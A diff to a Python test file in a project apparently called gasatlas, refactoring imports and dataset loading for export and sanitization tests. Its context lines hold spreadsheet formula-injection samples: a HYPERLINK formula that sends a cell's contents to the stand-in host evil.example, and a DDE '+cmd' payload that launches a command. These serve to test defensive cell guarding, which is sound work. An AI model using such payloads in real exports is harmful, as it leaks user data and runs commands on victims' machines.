@@ -11,16 +11,16 @@ import pandas as pd
 import pytest
 
 from gasatlas.auth import LOCAL_MODERATOR as MODERATOR
-from gasatlas.config import PROJECT_ROOT
 from gasatlas.dataset.exports import EVENT_COLUMNS, events_csv, events_excel, frame_records, table_csv
-from gasatlas.dataset.load import load_dataset, with_stored
+from gasatlas.dataset.load import with_stored
 from gasatlas.model.sanitize import guard_cell, unguard_cell
 from gasatlas.news.extract import Candidate
 from gasatlas.news.ingest import format_candidates
 from gasatlas.store import EventStore, export_archive, import_csv
-from tests.store.records import event
+from tests.support.data import shipped_atlas
+from tests.support.store import event
 
-ATLAS = load_dataset(PROJECT_ROOT / "data")
+ATLAS = shipped_atlas()
 FORMULAS = {
     "title_en": '=HYPERLINK("https://evil.example/?x="&B2;"Source")',
     "title_ru": "+cmd|' /C calc'!A0",
